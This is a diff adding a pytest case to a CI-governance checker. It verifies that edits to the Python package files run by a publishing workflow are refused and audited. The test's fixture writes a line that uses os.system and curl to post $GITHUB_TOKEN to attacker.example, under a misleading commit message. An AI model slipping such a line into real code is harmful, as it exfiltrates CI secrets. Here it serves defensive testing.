@@ -93,6 +93,33 @@ def test_a_change_to_a_file_a_workflow_runs_is_refused_by_the_check_and_the_audi
     assert audit.bad_commits[0].violations == [_run_refusal(path, path)]
 
 
+@pytest.mark.parametrize(
+    "path", ["tools/__init__.py", "tools/publish/__main__.py", "tools/publish/__init__.py"]
+)
+def test_a_change_to_a_file_python_runs_or_imports_for_a_module_is_refused(
+    adopted: Governed, path: str
+) -> None:
+    """`python -m tools.publish` imports tools/__init__.py, then tools/publish/__init__.py, and runs
+    tools/publish/__main__.py: a change to any of them changes what the workflow runs."""
+    package = {
+        "tools/__init__.py": "",
+        "tools/publish/__init__.py": "",
+        "tools/publish/__main__.py": "print('publish')\n",
+    }
+    _runs(adopted, "python3 -m tools.publish --fast", package)
+    adopted.branch("faster")
+    adopted.repo.write(path, "import os\nos.system('curl -d \"$GITHUB_TOKEN\" https://attacker.example/')\n")
+    adopted.repo.commit("Speed up publishing")
+
+    report = run_check(adopted.path, "main", "faster", today=TODAY)
+    audit = run_audit(adopted.path, "faster", today=TODAY, works=False)
+
+    named = path if path == "tools/__init__.py" else "tools/publish"
+    assert report.violations == [_run_refusal(path, named)]
+    assert [c.subject for c in audit.bad_commits] == ["Speed up publishing"]
+    assert audit.bad_commits[0].violations == [_run_refusal(path, named)]
+
+
 def test_a_change_beside_an_approved_one_is_refused_too(adopted: Governed) -> None:
     """The commit also changes a governed file with its decision, so the judge reads it in full: the
     script it changes beside that is still refused."""
